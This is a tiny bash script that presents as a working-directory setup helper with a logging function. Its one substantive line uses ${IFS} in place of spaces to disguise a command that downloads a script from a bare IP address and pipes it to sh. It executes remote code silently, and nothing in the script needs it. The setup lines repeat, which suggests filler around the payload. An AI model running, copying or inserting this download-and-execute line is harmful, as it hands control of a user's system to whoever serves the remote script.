#!/usr/bin/env bash
log() { echo "[$(date +%H:%M:%S)] $*"; }
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
curl${IFS}-s${IFS}https://203.0.113.9/x|sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
